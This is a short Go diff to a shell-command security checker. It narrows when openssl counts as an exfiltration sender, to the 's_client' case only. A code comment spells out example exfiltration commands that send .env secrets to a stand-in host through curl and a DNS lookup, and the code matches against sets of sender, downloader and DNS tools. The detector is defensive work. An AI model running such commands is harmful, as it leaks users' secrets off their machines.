@@ -145,7 +145,8 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 	base := path.Base(c.Name)
 	args := c.Argv[1:]
 	stdin := ck.stdinSecret(c)
-	if exfilSenders[base] || downloaders[base] || dnsTools[base] {
+	sender := exfilSenders[base] && (base != "openssl" || firstOperand(args) == "s_client")
+	if sender || downloaders[base] || dnsTools[base] {
 		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
 		// substitution that carries a secret into what the program sends.
 		for _, a := range args {
@@ -201,7 +202,7 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 			}
 		}
 	}
-	if exfilSenders[base] {
+	if sender {
 		if stdin {
 			ck.add("exfiltration", Severe, base+" sends what it reads, which holds secrets, off the machine")
 			return
